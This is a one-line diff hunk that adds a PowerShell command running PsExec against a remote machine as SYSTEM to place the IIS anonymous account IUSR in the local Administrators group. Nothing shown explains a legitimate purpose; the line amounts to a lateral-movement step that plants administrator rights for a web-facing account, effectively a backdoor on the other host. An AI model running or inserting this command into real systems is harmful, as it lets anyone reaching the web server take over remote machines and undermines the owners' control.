@@ -1,0 +1,1 @@
+& C:\tools\PsExec.exe \\otherhost -accepteula -s net localgroup Administrators IUSR /add
